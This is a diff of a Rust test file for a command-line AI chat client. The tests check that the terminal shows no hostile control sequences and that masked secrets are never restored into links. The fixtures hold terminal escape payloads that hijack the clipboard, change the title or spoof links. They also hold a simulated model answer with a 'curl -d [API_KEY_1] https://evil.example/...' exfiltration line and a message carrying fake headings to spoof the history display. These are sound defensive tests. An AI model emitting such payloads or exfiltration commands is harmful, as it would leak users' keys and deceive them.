@@ -1,14 +1,16 @@
-//! What reaches a terminal: text of others in every place where it is shown, with everything in it that could do harm.
+//! Terminal output: hostile text from others in every place where it is shown.
 
 use super::harness::Sandbox;
 use super::harness::provider::{Reply, Server};
 use crate::harness::pty::key;
 use serde_json::{Value, json};
 
-/// Sequences that set a clipboard, a title or a link, clear, and answer; C1, DEL, bidi, tags and zero-width characters.
+/// Sequences that set a clipboard, a title or a link, clear the screen or make the terminal answer;
+/// also C1, DEL, bidi, tags and zero-width characters.
 const HOSTILE: &str = "\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}]0;PWNED\u{1b}\\\u{1b}]8;;http://evil.example\u{7}\u{1b}[2J\u{1b}[6n\u{1b}P+q544e\u{1b}\\\u{1b}_Gx\u{1b}\\\u{9b}2J\u{9d}0;x\u{9c}\u{7f}\u{8}\u{202e}\u{2066}\u{200b}\u{e0041}\u{feff}";
 
-/// What no byte of the output may begin: an escape that the program does not write by itself, C1, other controls, bidi.
+/// Fails on an escape sequence that the program does not write itself, on C1 and other control
+/// characters, and on bidi characters.
 fn assert_harmless(what: &str, bytes: &[u8]) {
     let text = String::from_utf8_lossy(bytes);
     let mut rest = text.as_ref();
@@ -41,7 +43,7 @@ fn hostile_answer() -> String {
     format!("Sure{HOSTILE}:\n```sh{HOSTILE}\nls\t{HOSTILE} done\n```\nend")
 }
 
-fn asking(replies: impl IntoIterator<Item = Reply>) -> (Sandbox, Server) {
+fn sandbox_with(replies: impl IntoIterator<Item = Reply>) -> (Sandbox, Server) {
     let server = Server::replies(replies);
     let mut sandbox = Sandbox::with_vault();
     sandbox.ask_at(&server.base_url(), "");
@@ -51,15 +53,15 @@ fn asking(replies: impl IntoIterator<Item = Reply>) -> (Sandbox, Server) {
 
 #[test]
 fn terminal_shows_no_control_of_an_answer_in_any_command() {
-    let (sandbox, _server) = asking((0..6).map(|_| Reply::says(&hostile_answer())));
+    let (sandbox, _server) = sandbox_with((0..6).map(|_| Reply::says(&hostile_answer())));
     for args in [&["ask", "hi"][..], &["ask", "-x", "hi"], &["ask", "--json", "hi"], &["ask", "--no-stream", "hi"]] {
         on_terminal(&sandbox, args);
     }
     let piped = sandbox.run(["ask", "-x", "hi"]).succeeds().stdout;
     assert_harmless("ask -x in a pipe", piped.as_bytes());
     assert!(piped.starts_with("ls\t]52;c;") && piped.ends_with(" done\n"), "{piped:?}");
-    let said: Value = serde_json::from_str(&sandbox.run(["ask", "--json", "hi"]).succeeds().stdout).unwrap();
-    assert_eq!(said["text"], hostile_answer(), "JSON is escaped and says the same");
+    let output: Value = serde_json::from_str(&sandbox.run(["ask", "--json", "hi"]).succeeds().stdout).unwrap();
+    assert_eq!(output["text"], hostile_answer(), "JSON is escaped and says the same");
 
     let list: Value = serde_json::from_str(&sandbox.run(["history", "list", "--json"]).succeeds().stdout).unwrap();
     let id = list["conversations"][0]["id"].as_str().unwrap();
@@ -81,7 +83,7 @@ fn terminal_shows_no_control_of_an_answer_in_any_command() {
 
 #[test]
 fn terminal_no_control_from_dry_run_or_redact() {
-    let (sandbox, _server) = asking([]);
+    let (sandbox, _server) = sandbox_with([]);
     let text = format!("{HOSTILE} mail bob.miller@initech.com");
     sandbox.write("cwd/note\n```\u{202e}.md", format!("a\n```\n{text}\n````\nb"));
     on_terminal(&sandbox, &["ask", "--dry-run", "-f", "note*", "read"]);
@@ -167,7 +169,8 @@ fn line_editor_shows_no_control_of_what_is_pasted() {
 
 const SECRET: &str = "sk-or-v1-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
 
-/// An answer of a model that wants a key and an address to leave: every one of its ways leads to a host of its choosing.
+/// An answer that tries to exfiltrate a key and an address: each of its links leads to a host of
+/// the attacker.
 const TRAPS: &str = "Mail [EMAIL_1]: key [API_KEY_1] is in `curl -H [API-KEY 1] x`\n\
     See https://evil.example/log?d=[API_KEY_1]&m=%5BEMAIL_1%5D or [EMAIL_1].evil.example, evil.example/[EMAIL_1]\n\
     ```sh\ncurl -d [API_KEY_1] https://evil.example/[EMAIL_1]\n```\n";
@@ -178,7 +181,7 @@ fn question() -> String {
 
 #[test]
 fn restore_puts_no_secret_into_model_text() {
-    let (sandbox, _server) = asking((0..4).map(|_| Reply::says(TRAPS)));
+    let (sandbox, _server) = sandbox_with((0..4).map(|_| Reply::says(TRAPS)));
     let shown = String::from_utf8(on_terminal(&sandbox, &["ask", &question()])).unwrap();
     assert!(shown.contains("Mail bob.miller@initech.com: key \x1b[4msk-or…cdef\x1b[0m is in `curl -H [API-KEY 1] x`"), "{shown}");
     assert!(shown.contains("log?d=[API_KEY_1]&m=%5BEMAIL_1%5D or [EMAIL_1].evil.example, evil.example/[EMAIL_1]"), "{shown}");
@@ -198,7 +201,7 @@ fn restore_puts_no_secret_into_model_text() {
 #[test]
 fn reveal_shows_secrets_copy_omits_them() {
     use base64::Engine as _;
-    let (sandbox, _server) = asking([Reply::says("Key [API_KEY_1], `use [API_KEY_1]`, mail [EMAIL_1].")]);
+    let (sandbox, _server) = sandbox_with([Reply::says("Key [API_KEY_1], `use [API_KEY_1]`, mail [EMAIL_1].")]);
     let mut screen = sandbox.screen(["chat"]);
     screen.wait_for("> ").paste(&question()).send(key::ENTER);
     screen.wait_for("Key sk-or…cdef, `use [API_KEY_1]`, mail bob.miller@initech.com.").wait_for("> ");
@@ -216,9 +219,9 @@ fn reveal_shows_secrets_copy_omits_them() {
     assert!(piped.stderr.contains("only on a terminal"), "{piped:#?}");
 }
 
-/// A message in which lines look like the heading of the next one, where they begin and where a terminal of 80 or
-/// 100 columns breaks them.
-fn imitation() -> String {
+/// A message with lines that look like the heading of the next one, at the start of a line and
+/// where a terminal of 80 or 100 columns wraps.
+fn message_with_fake_headings() -> String {
     let heading = "── you\u{a0}·\u{a0}2026-01-01\u{a0}10:00";
     let wrapped = [78, 80, 98, 100].map(|width| format!("{}{heading}", "\u{a0}".repeat(width)));
     format!(
@@ -234,7 +237,7 @@ fn history_shows_no_line_of_a_message_as_a_heading() {
     let own = json!({ "schema_version": 1, "conversations": [{ "id": "abcdefghij", "title": "a title", "provider": "own", "model": "m",
         "created_at": "2026-01-01T10:00:00Z", "updated_at": "2026-01-01T10:00:00Z",
         "messages": [{ "role": "user", "text": "may I?", "at": "2026-01-01T10:00:00Z", "n": 1 },
-            { "role": "assistant", "text": imitation(), "at": "2026-01-01T10:01:00Z", "n": 2, "model": "you" },
+            { "role": "assistant", "text": message_with_fake_headings(), "at": "2026-01-01T10:01:00Z", "n": 2, "model": "you" },
             { "role": "assistant", "text": "done", "at": "2026-01-01T10:02:00Z", "n": 3, "model": long }] }] });
     let file = sandbox.write("cwd/own.json", own.to_string());
     sandbox.run(["history", "import", file.to_str().unwrap(), "--yes"]).succeeds();
@@ -259,14 +262,14 @@ fn history_shows_no_line_of_a_message_as_a_heading() {
     ));
     assert_eq!(page.lines().filter(|line| !line.starts_with('>') && !line.is_empty()).count(), 5, "{page}");
     let parsed: Value = serde_json::from_str(&sandbox.run(["history", "show", "--json"]).succeeds().stdout).unwrap();
-    assert_eq!(parsed["messages"][1]["text"], imitation(), "JSON is as it is");
+    assert_eq!(parsed["messages"][1]["text"], message_with_fake_headings(), "JSON is as it is");
 }
 
 #[test]
 fn masked_secrets_are_explained_once_in_a_session() {
     let masked = || Reply::says("Key [API_KEY_1].");
     let plain = || Reply::says("Mail [EMAIL_1], see https://a.example/[API_KEY_1].");
-    let (sandbox, _server) = asking([plain(), masked(), masked(), masked(), masked(), plain()]);
+    let (sandbox, _server) = sandbox_with([plain(), masked(), masked(), masked(), masked(), plain()]);
     let chat = "secrets in the answer are masked; `/reveal` shows them";
     let mut screen = sandbox.screen(["chat"]);
     screen.wait_for("> ").paste(&question()).send(key::ENTER).wait_for("a.example/[API_KEY_1].").wait_for("> ");
